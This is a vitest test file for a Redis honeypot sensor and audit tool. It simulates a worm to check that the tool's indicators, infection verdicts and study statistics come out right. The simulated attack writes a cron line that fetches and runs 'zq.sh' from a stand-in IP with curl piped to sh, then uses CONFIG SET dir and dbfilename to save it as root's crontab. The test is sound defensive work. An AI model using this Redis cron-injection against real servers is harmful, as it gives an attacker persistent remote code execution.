import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import type { AuditReport } from '../src/model/audit-report.ts';
import type { Indicator } from '../src/model/indicator.ts';
import { temporaryData } from './peers/data-folder.ts';
import { redisCli } from './peers/redis-cli.ts';
import type { RealRedis } from './peers/redis-server.ts';
import { startRedis } from './peers/redis-server.ts';
import { startSensor } from './peers/running-sensor.ts';
import { startSundew, sundew } from './peers/sundew.ts';

const LOADER = '\n\n*/3 * * * * root curl -fsSL http://203.0.113.9/zq.sh | sh\n\n';

async function realRedis(...settings: string[]): Promise<RealRedis> {
  const server = await startRedis(...settings);
  onTestFinished(() => server.stop());
  return server;
}

/** A worm whose key names stand in no rule and no campaign file. */
async function attack(port: number): Promise<void> {
  await redisCli(port, ['set', 'zq81-loader', LOADER]);
  await redisCli(
    port,
    [],
    'set zq81-loader "\\n\\n*/3 * * * * root curl -fsSL http://203.0.113.9/zq.sh | sh\\n\\n"\nset zq81-owner "held by zq81, hands off"\nconfig set dir /var/spool/cron\nconfig set dbfilename root\nsave\n',
  );
}

describe('the study in miniature', () => {
  test('an attack on the sensor is what the audit finds on a real server', async () => {
    const data = temporaryData();
    const { running, port } = await startSensor(data);
    const follower = startSundew(['events', '--follow'], data);
    onTestFinished(async () => {
      await follower.stop('SIGKILL');
    });

    await attack(port);

    await follower.says(/zq81-loader/);
    await follower.says(/critical|high/);
    const { code: stopped } = await running.stop();
    expect(stopped).toBe(0);

    const listed = await sundew(['indicators', '--json'], data);
    const indicators = JSON.parse(listed.out) as Indicator[];
    const values = indicators.map(({ kind, value }) => `${kind} ${value}`);
    expect(values).toEqual(
      expect.arrayContaining(['key zq81-loader', 'key zq81-owner', 'url http://203.0.113.9/zq.sh']),
    );
    expect(indicators.every(({ sessions, sightings }) => sessions.length > 0 && sightings > 0)).toBe(true);

    // Nothing here that a rule knows: only the sensor makes the difference.
    const infected = await realRedis();
    await redisCli(infected.port, ['set', 'zq81-owner', 'held by zq81, hands off']);
    const clean = await realRedis();
    await redisCli(clean.port, ['set', 'greeting', 'held by nobody, hands on']);

    const target = `redis://127.0.0.1:${infected.port}`;
    const without = await sundew(['audit', target, '--json', '--no-sensors'], data);
    const withSensor = await sundew(['audit', target, `127.0.0.1:${clean.port}`, '--json'], data);

    const [blind] = JSON.parse(without.out) as AuditReport[];
    expect(blind?.axes.infected.answer).toBe('no');
    const reports = JSON.parse(withSensor.out) as AuditReport[];
    const answers = new Map(reports.map((report) => [report.target, report.axes.infected]));
    expect(answers.get(target)?.answer).toBe('yes');
    expect(answers.get(`redis://127.0.0.1:${clean.port}`)?.answer).toBe('no');
    expect(withSensor.code).toBe(1);
  });

  test('counts many servers as the study did', async () => {
    const data = temporaryData();
    const { running, port } = await startSensor(data);
    await attack(port);
    await running.stop();
    const infected = await realRedis();
    await redisCli(infected.port, ['set', 'backup1', LOADER]);
    const clean = await realRedis();
    await clean.client.lpush('bull:backup:wait', '1', '2');
    const locked = await realRedis('--requirepass', 'a-long-password-of-the-test');
    const file = join(data.SUNDEW_DATA, 'servers.txt');
    writeFileSync(
      file,
      [
        '# three servers, one closed port, one word that is none',
        `redis://127.0.0.1:${infected.port}`,
        `127.0.0.1:${clean.port}   # the clean one`,
        `127.0.0.1:${locked.port}`,
        '127.0.0.1:1',
        'http://127.0.0.1:80',
      ].join('\n'),
    );

    const { out, code } = await sundew(['study', '--targets', file, '--json'], data);
    const people = await sundew(['study', '--targets', file], data);

    const { servers, sensors } = JSON.parse(out) as { servers: object; sensors: object };
    expect(servers).toMatchObject({
      asked: 5,
      responded: 3,
      looked: 2,
      maliciousKeys: { count: 1, of: 3 },
      maliciousValues: { count: 1, of: 3 },
      infected: { count: 1, of: 3 },
      outcomes: { audited: 2, 'auth-required': 1, refused: 1, 'bad-target': 1 },
    });
    expect(sensors).toMatchObject({ sources: 1, sessions: 2, attacks: 2 });
    expect(code).toBe(0);
    expect(people.out).toMatch(/with malicious values\s+1\s+33\.3 % \(6\.1 to 79\.2\)/);
    expect(people.out).toMatch(/T1053\.003/);
  });
});
